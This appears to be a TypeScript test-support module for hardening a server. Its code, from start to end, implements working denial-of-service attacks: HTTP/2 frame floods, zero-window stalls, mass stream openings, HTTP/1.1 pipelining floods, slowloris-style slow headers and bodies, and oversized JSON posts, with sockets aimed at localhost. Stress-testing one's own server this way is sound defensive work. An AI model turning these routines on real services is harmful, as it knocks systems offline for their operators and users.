import { connect, type Socket } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { END_HEADERS, END_STREAM, FLOODS, flood, frame, PREFACE, REQUEST, SETTINGS } from "../../support/http2-flood.ts";

export type Target = { readonly url: string; readonly secret: string; readonly untilAt: number };

/** An attack on the public port without special access. It runs until the target's time is over. */
export type Attack = { readonly name: string; readonly run: (target: Target) => Promise<void> };

const ATTACKERS = 4;
const FLOOD_BYTES = 64 * 1_048_576;
const SLOW_CONNECTIONS = 500;
const STALLED_CONNECTIONS = 20;
const STALLED_REQUESTS = 500;
const STREAMS_AT_ONCE = 125;
const SESSIONS_AT_ONCE = 40;
const PIPELINE = Buffer.from("GET /v1/me HTTP/1.1\r\nhost:v\r\n\r\n".repeat(2_000));

const floods: readonly Attack[] = Object.entries(FLOODS).map(([name, next]) => ({
  name: `HTTP/2: endless ${name}`,
  run: (target) =>
    repeat(target, async () => {
      await flood(target.url, next, FLOOD_BYTES);
    }),
}));

/** Requests many responses with a flow-control window of zero. */
const zeroWindow: Attack = {
  name: "HTTP/2: zero window",
  run: async ({ url, untilAt }) => {
    const noWindow = frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
    const requests = Array.from({ length: STALLED_REQUESTS }, (_, i) => frame(1, END_HEADERS | END_STREAM, i * 2 + 1, REQUEST));
    const sockets = await open(url, STALLED_CONNECTIONS);
    for (const socket of sockets) socket.write(Buffer.concat([PREFACE, noWindow, ...requests]));
    await waitUntil(untilAt);
    close(sockets);
  },
};

/**
 * Every session opens the maximum number of streams at the same moment, repeatedly, and reads the responses.
 */
const atOnce: Attack = {
  name: "HTTP/2: all streams of all sessions at once",
  run: async ({ url, untilAt }) => {
    const sockets = await open(url, SESSIONS_AT_ONCE);
    for (const socket of sockets) {
      socket.resume();
      socket.write(Buffer.concat([PREFACE, SETTINGS]));
    }
    for (let from = 0; performance.now() < untilAt; from += STREAMS_AT_ONCE) {
      await wait(300);
      const requests = Array.from({ length: STREAMS_AT_ONCE }, (_, i) =>
        frame(1, END_HEADERS | END_STREAM, (from + i) * 2 + 1, REQUEST),
      );
      for (const socket of sockets) if (!socket.destroyed) socket.write(Buffer.concat(requests));
    }
    close(sockets);
  },
};

/** Pipelines as many requests as fit, without waiting for responses. */
const pipelined: Attack = {
  name: "HTTP/1.1: endless requests without waiting",
  run: (target) =>
    repeat(target, async () => {
      await flood(target.url, () => PIPELINE, FLOOD_BYTES, Buffer.alloc(0));
    }),
};

/** Sends headers or a body one byte at a time. */
function slow(name: string, head: (target: Target) => string, byte: string): Attack {
  return {
    name,
    run: async (target) => {
      const sockets = await open(target.url, SLOW_CONNECTIONS);
      for (const socket of sockets) socket.write(head(target));
      while (performance.now() < target.untilAt) {
        for (const socket of sockets) if (!socket.destroyed) socket.write(byte);
        await wait(200);
      }
      close(sockets);
    },
  };
}

const slowHeaders = slow("HTTP/1.1: headers one byte at a time", () => "GET /v1/me HTTP/1.1\r\nhost: vx\r\nx-a: ", "a");
const slowBodies = slow(
  "HTTP/1.1: bodies one byte at a time, with a key",
  ({ secret }) =>
    `POST /v1/generate HTTP/1.1\r\nhost: vx\r\nauthorization: Bearer ${secret}\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n`,
  " ",
);

/** The largest allowed request, made of the smallest possible values. */
const largeBodies: Attack = {
  name: "30 MB of JSON, with a key",
  run: async (target) => {
    const body = `{"model":"torture","messages":[${"[],".repeat(10_000_000)}{}]}`;
    await repeat(target, async () => {
      const answer = await fetch(`${target.url}/v1/generate`, {
        method: "POST",
        headers: { authorization: `Bearer ${target.secret}`, "content-type": "application/json" },
        body,
      }).catch(() => undefined);
      await answer?.arrayBuffer().catch(() => undefined);
    });
  },
};

export const ATTACKS: readonly Attack[] = [...floods, zeroWindow, atOnce, pipelined, slowHeaders, slowBodies, largeBodies];

async function repeat({ untilAt }: Target, once: () => Promise<void>): Promise<void> {
  const attacker = async () => {
    while (performance.now() < untilAt) await Promise.race([once(), waitUntil(untilAt)]);
  };
  await Promise.all(Array.from({ length: ATTACKERS }, attacker));
}

async function waitUntil(at: number): Promise<void> {
  await wait(Math.max(at - performance.now(), 0));
}

async function open(url: string, count: number): Promise<Socket[]> {
  return await Promise.all(
    Array.from({ length: count }, () => {
      const socket = connect(Number(new URL(url).port), "127.0.0.1");
      socket.on("error", () => undefined);
      return new Promise<Socket>((resolve) => {
        socket.once("connect", () => resolve(socket));
        socket.once("close", () => resolve(socket));
      });
    }),
  );
}

function close(sockets: readonly Socket[]): void {
  for (const socket of sockets) socket.destroy();
}
